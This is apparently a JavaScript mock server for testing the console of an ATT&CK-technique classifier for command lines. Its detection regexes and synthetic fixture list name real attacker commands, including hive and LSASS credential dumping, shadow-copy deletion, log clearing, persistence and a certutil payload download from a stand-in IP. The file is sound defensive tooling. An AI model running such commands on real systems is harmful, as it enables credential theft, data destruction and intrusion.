// A stand-in for `attackline serve` that follows its contract with made-up answers: words decide the label. For the console's
// tests, and for working on the console without the binary:
//
//   node web/tests/mock_server.mjs 8099
//
// Uploads named big-50000.* answer with so many made-up findings, names with "slow" answer slowly, "busy" is refused once with 503,
// "cut" breaks off, and pasted lines with #die break the connection once after two answers. TOKEN=word demands that bearer token (READER=word
// is one that may only read), EXPLAIN=0 refuses evidence, FEEDBACK=0 keeps no marks.

import { createServer } from "node:http";
import { readFileSync } from "node:fs";
import { join, normalize } from "node:path";

const WEB = new URL("..", import.meta.url).pathname;
const CATALOG = new URL("../../crates/catalog/data/attack-enterprise-18.1.tsv", import.meta.url).pathname;
const POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const TYPES = { html: "text/html; charset=utf-8", css: "text/css; charset=utf-8", js: "text/javascript; charset=utf-8", svg: "image/svg+xml" };
export const THRESHOLD = 0.62;

const TACTIC_NAMES = ["Reconnaissance", "Resource Development", "Initial Access", "Execution", "Persistence", "Privilege Escalation", "Defense Evasion", "Credential Access", "Discovery", "Lateral Movement", "Collection", "Command and Control", "Exfiltration", "Impact"];
const TACTICS = TACTIC_NAMES.map((name, index) => ({ id: `TA${String(index + 1).padStart(4, "0")}`, name, shortname: name.toLowerCase().replaceAll(" ", "-") }));

/** The catalog's table, read by its header. */
function techniques() {
  const [header, ...rows] = readFileSync(CATALOG, "utf8").trim().split("\n").map((line) => line.split("\t"));
  const column = (name) => header.findIndex((title) => title === name);
  const [id, name, tactics, revoked, deprecated] = ["id", "name", "tactics", "revoked_by", "deprecated"].map(column);
  return rows
    .filter((row) => !row[revoked] && row[deprecated] !== "true")
    .map((row) => ({
      id: row[id], name: row[name], tactics: row[tactics].split(",").filter(Boolean),
      ...(row[id].includes(".") ? { parent: row[id].split(".")[0] } : {}),
      url: `https://attack.mitre.org/techniques/${row[id].replace(".", "/")}/`,
    }));
}

const TECHNIQUES = techniques();
const BY_ID = new Map(TECHNIQUES.map((technique) => [technique.id, technique]));

/** What the made-up model knows: a pattern, its label, its score. */
const RULES = [
  [/HKLM\\(SAM|SYSTEM|SECURITY)\b/i, "T1003.002", 0.998], [/\bSAM and SYSTEM hives\b/i, "T1003.002", 0.93], [/\bnet(1)? user(\s+\/domain)?\b/i, "T1087.001", 0.981],
  [/Win32_UserAccount|\/etc\/passwd|Get-LocalUser/i, "T1087.001", 0.947], [/\bnetstat\b|\bss -\w*[nt]/i, "T1049", 0.972], [/-EncodedCommand|-enc\b/i, "T1059.001", 0.914],
  [/\bschtasks \/create/i, "T1053.005", 0.958], [/vssadmin delete|wbadmin delete/i, "T1490", 0.991], [/\bwhoami\b/i, "T1033", 0.71], [/certutil -urlcache/i, "T1105", 0.967],
  [/wevtutil cl/i, "T1070.001", 0.989], [/\bPsExec\b|\\ADMIN\$/i, "T1021.002", 0.888], [/rundll32 .*comsvcs/i, "T1003.001", 0.996], [/\breg add .*\\Run\b/i, "T1547.001", 0.935],
  [/\bipconfig\b|\bifconfig\b/i, "T1016", 0.48], [/\btasklist\b|\bps aux\b/i, "T1057", 0.55], [/rar a -hp|7z a -p/i, "T1560.001", 0.84], [/\bnltest\b/i, "T1482", 0.952],
  [/script>|\u202e|\u001b/i, "T1027", 0.83],
];
const LABELS = ["Benign", ...new Set(RULES.map(([, label]) => label))];

function summary(label) {
  const technique = BY_ID.get(label);
  if (!technique) return undefined;
  const parent = technique.parent ? BY_ID.get(technique.parent) : undefined;
  return { id: label, name: parent ? `${parent.name}: ${technique.name}` : technique.name, tactics: technique.tactics, url: technique.url };
}

const round = (score) => Math.round(score * 1e4) / 1e4;
const bytes = (text) => Buffer.byteLength(text, "utf8");

/** The answer for a text. `noise` makes the scores of made-up lines differ. */
function classify(line, text, { explain, top, noise = 0, source, event }) {
  if (text.includes("#refuse")) return { line, error: "the line is no UTF-8 text", error_type: "bad_record" };
  const rule = RULES.find(([pattern]) => pattern.test(text));
  const score = round(rule ? Math.max(0.34, rule[2] - noise * 0.4) : Math.min(0.9999, 0.93 + noise * 0.07));
  const label = rule ? rule[1] : "Benign";
  // What the threshold is put to: the label's probability and that of other techniques.
  const attack = round(label === "Benign" ? 1 - score : score + (1 - score) * 0.2);
  const others = LABELS.filter((other) => other !== label).slice(0, 4);
  if (rule && !others.includes("Benign")) others[0] = "Benign";
  let rest = 1 - score;
  const entries = others.map((other) => ({ label: other, score: round((rest = rest * 0.62)) }));
  const finding = {
    line, text, label, score, attack, abstained: label !== "Benign" && attack < THRESHOLD, technique: summary(label),
    top: [{ label, score }, ...entries].sort((a, b) => b.score - a.score).slice(0, top), truncated: text.length > 4000, source, event,
  };
  if (explain && rule) {
    const match = text.match(rule[0]);
    const start = bytes(text.slice(0, match.index));
    finding.evidence = [{ start, end: start + bytes(match[0]), weight: 0.61 }];
    const word = text.match(/\b(save|export|domain|create|delete|queried|exported)\b/i);
    if (word) finding.evidence.push({ start: bytes(text.slice(0, word.index)), end: bytes(text.slice(0, word.index)) + bytes(word[0]), weight: 0.22 });
  }
  finding.model = { name: "mock", version: "0.1.0" };
  return finding;
}

/** A small generator, so that the same name gives the same findings. */
function* random(seed) {
  for (let state = seed; ; ) yield (state = (state * 1103515245 + 12345) % 2147483648) / 2147483648;
}

const ORDINARY = [
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=de --num-raster-threads=4', "git pull --rebase origin main", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
  "robocopy D:\\Shares\\Finance \\\\fs02\\backup$\\Finance /MIR /R:2 /W:5", "python -m pytest -q tests/", "docker compose up -d --build", "sudo systemctl restart nginx", "msiexec /i \\\\fs02\\install\\7z2301-x64.msi /qn /norestart",
  "find /var/log -name '*.gz' -mtime +30 -delete", "The user opened the quarterly spreadsheet and printed two copies.", "pg_dump -Fc shop -f /var/backups/shop.dump", "ipconfig /all", "tasklist /v",
];
const SUSPICIOUS = [
  "reg save HKLM\\SAM C:\\Users\\Public\\s.dat", "reg save HKLM\\SYSTEM C:\\Users\\Public\\y.dat", "net user /domain", "netstat -ano", "whoami /priv", "wevtutil cl Security", "vssadmin delete shadows /all /quiet",
  "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 10", "certutil -urlcache -split -f http://198.51.100.7/a.bin a.exe", "rundll32 C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\l.dmp full",
  'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater /d C:\\Users\\Public\\u.exe', "nltest /domain_trusts", "rar a -hpS3cret out.rar D:\\Shares\\Finance", "PsExec64.exe \\\\fs02 -s cmd", "cat /etc/passwd", "ss -antp",
  "powershell -NoProfile -EncodedCommand RwBlAHQALQBMAG8AYwBhAGwAVQBzAGUAcgAgAHwAIABTAGUAbABlAGMAdAAtAE8AYgBqAGUAYwB0ACAATgBhAG0AZQAsAEUAbgBhAGIAbABlAGQA",
];
const HOSTS = ["web-01", "db-02", "fs02", "dc01", "ws-finance-114", "ws-build-07"];
const USERS = ["NT AUTHORITY\\SYSTEM", "CORP\\jlarsen", "www-data", "CORP\\svc-backup", "root"];

/** So many findings of a working day with two bursts of attacks. */
function* made(many, file, options) {
  const next = random(many);
  const take = () => next.next().value;
  const start = Date.parse("2026-03-09T06:00:00Z");
  for (let line = 1; line <= many; line++) {
    const place = line / many;
    const burst = Math.abs(place - 0.35) < 0.02 || Math.abs(place - 0.72) < 0.035;
    const attack = take() < (burst ? 0.3 : 0.004);
    const list = attack ? SUSPICIOUS : ORDINARY;
    const text = list[Math.floor(take() ** (attack ? 1.6 : 1) * (attack || take() < 0.08 ? list.length : list.length - 2))];
    const host = HOSTS[Math.floor((attack ? take() ** 2 : take()) * HOSTS.length)];
    const event = {
      timestamp: new Date(start + Math.floor(place * 12 * 3600_000)).toISOString(), host, user: USERS[Math.floor(take() * USERS.length)],
      image: text.startsWith("/") || host.includes("-0") ? "/usr/bin/bash" : "C:\\Windows\\System32\\cmd.exe", parent: "C:\\Windows\\explorer.exe",
    };
    yield classify(line, text, { ...options, noise: take() ** 2, source: { file, record: 1000 + line }, event });
  }
}

/** Rows of an uploaded NDJSON or text file. */
function* uploaded(body, file, options) {
  let line = 0;
  for (const row of body.split(/\r?\n/)) {
    if (row.trim() === "") continue;
    line += 1;
    try {
      const { text, host, user, time } = JSON.parse(row);
      if (typeof text !== "string") throw new Error("no text");
      yield classify(line, text, { ...options, source: { file, record: line }, event: { timestamp: time, host, user } });
    } catch {
      yield classify(line, row, { ...options, source: { file, record: line } });
    }
  }
}

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

async function stream(response, findings, name = "") {
  response.writeHead(200, { "Content-Type": "application/x-ndjson" });
  let chunk = "";
  let sent = 0;
  for (const finding of findings) {
    chunk += `${JSON.stringify(finding)}\n`;
    sent += 1;
    if (name.includes("cut") && sent === 3) return response.end(chunk.slice(0, -20));
    if (name === "die" && sent === 2) return response.write(chunk, () => setTimeout(() => response.destroy(), 600));
    if (chunk.length < 60_000 && !name.includes("slow")) continue;
    if (response.destroyed) return;
    if (!response.write(chunk)) await new Promise((resolve) => {
      const go = () => (response.off("drain", go), response.off("close", go), resolve());
      response.on("drain", go).on("close", go);
    });
    chunk = "";
    if (name.includes("slow")) await pause(20);
  }
  response.end(chunk);
}

async function bodyOf(request) {
  const parts = [];
  for await (const part of request) parts.push(part);
  return Buffer.concat(parts).toString("utf8");
}

function answer(response, status, value, headers = {}) {
  response.writeHead(status, { "Content-Type": "application/json", ...headers });
  response.end(JSON.stringify(value));
}

const refuse = (response, status, type, error, headers) => answer(response, status, { error, error_type: type }, headers);

/** Starts the server; gives its address and what it has seen. */
export function start({ port = 0, token = "", reader = "", explain = true, feedback = true } = {}) {
  const marks = new Map();
  const seen = { requests: [], marks };
  let next = 1;
  let busy = true;
  let dying = true;

  async function api(request, response, url) {
    const at = `${request.method} ${url.pathname}`;
    seen.requests.push(at + url.search);
    const reads = reader !== "" && request.headers.authorization === `Bearer ${reader}`;
    if (reads && (request.method !== "GET" || url.pathname === "/api/v1/feedback")) return refuse(response, 403, "role", "this token's role does not allow it");
    if (token !== "" && !reads && request.headers.authorization !== `Bearer ${token}`) {
      const given = request.headers.authorization !== undefined;
      return refuse(response, 401, "unauthorized", given ? "the token is not known" : "a bearer token is needed", { "WWW-Authenticate": "Bearer" });
    }
    if (at === "GET /api/v1/models") return answer(response, 200, { feedback, models: [{ name: "mock", version: "0.1.0", labels: LABELS, threshold: THRESHOLD, default: true }] });
    if (at === "GET /api/v1/techniques") return answer(response, 200, { tactics: TACTICS, techniques: TECHNIQUES });
    if (at === "POST /api/v1/classify") {
      const query = JSON.parse(await bodyOf(request));
      if (query.explain && !explain) return refuse(response, 422, "explain_unavailable", "this model gives no evidence");
      let name = query.texts[0]?.includes("#slow") ? "slow" : "";
      if (dying && query.texts.some((text) => text.includes("#die"))) [name, dying] = ["die", false];
      return stream(response, query.texts.map((text, index) => classify(index + 1, text, query)), name);
    }
    if (at === "POST /api/v1/files") {
      const body = await bodyOf(request);
      const name = url.searchParams.get("name");
      const options = { explain: url.searchParams.get("explain") === "true", top: Number(url.searchParams.get("top")) };
      if (options.explain && !explain) return refuse(response, 422, "explain_unavailable", "this model gives no evidence");
      if (name.endsWith(".exe")) return refuse(response, 415, "unknown_format", `${name}: attackline does not know this format`);
      if (name.includes("busy") && busy) return (busy = false), refuse(response, 503, "overloaded", "the queue is full", { "Retry-After": "1" });
      const many = Number(name.match(/big-(\d+)/)?.[1] ?? 0);
      return stream(response, many > 0 ? made(many, name, options) : uploaded(body, name, options), name);
    }
    if (!feedback && url.pathname.startsWith("/api/v1/feedback")) return refuse(response, 404, "no_feedback", "this server keeps no feedback");
    if (at === "POST /api/v1/feedback") {
      const id = String(next++);
      marks.set(id, JSON.parse(await bodyOf(request)));
      return answer(response, 201, { id });
    }
    if (at === "GET /api/v1/feedback") {
      response.writeHead(200, { "Content-Type": "application/x-ndjson" });
      return response.end([...marks.values()].map((mark) => `${JSON.stringify(mark)}\n`).join(""));
    }
    if (at === "GET /api/v1/feedback/summary") return answer(response, 200, { techniques: rates([...marks.values()]) });
    const [, id] = at.match(/^DELETE \/api\/v1\/feedback\/(\w+)$/) ?? [];
    if (id !== undefined && marks.delete(id)) return response.writeHead(204).end();
    return refuse(response, 404, "not_found", "there is nothing here");
  }

  function file(response, path) {
    const name = path === "/" ? "index.html" : normalize(path).replace(/^\/+/, "");
    const ending = name.split(".").at(-1);
    if (!TYPES[ending] || name.startsWith("tests") || name.includes("..")) return refuse(response, 404, "not_found", "there is nothing here");
    try {
      const content = readFileSync(join(WEB, name));
      response.writeHead(200, { "Content-Type": TYPES[ending], "Content-Security-Policy": POLICY, "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cache-Control": "no-cache" });
      response.end(content);
    } catch {
      refuse(response, 404, "not_found", "there is nothing here");
    }
  }

  const server = createServer((request, response) => {
    const url = new URL(request.url, "http://localhost");
    if (!url.pathname.startsWith("/api/")) return file(response, url.pathname);
    api(request, response, url).catch((error) => (response.headersSent ? response.destroy() : refuse(response, 500, "internal", error.message)));
  });
  return new Promise((resolve) => {
    server.listen(port, "127.0.0.1", () => {
      resolve({ url: `http://127.0.0.1:${server.address().port}/`, seen, stop: () => (server.closeAllConnections(), server.close()) });
    });
  });
}

function rates(marks) {
  const labels = new Map();
  for (const { label, verdict } of marks) {
    if (label === "Benign") continue;
    const entry = labels.get(label) ?? { label, right: 0, wrong: 0, benign: 0 };
    labels.set(label, entry);
    entry[verdict] += 1;
  }
  return [...labels.values()].map((entry) => ({ ...entry, false_positive_rate: round(entry.benign / (entry.right + entry.wrong + entry.benign)) }));
}

if (process.argv[1] === new URL(import.meta.url).pathname) {
  const { env } = process;
  const { url } = await start({ port: Number(process.argv[2] ?? 8099), token: env.TOKEN ?? "", reader: env.READER ?? "", explain: env.EXPLAIN !== "0", feedback: env.FEEDBACK !== "0" });
  console.log(`the console, with made-up answers: ${url}`);
}
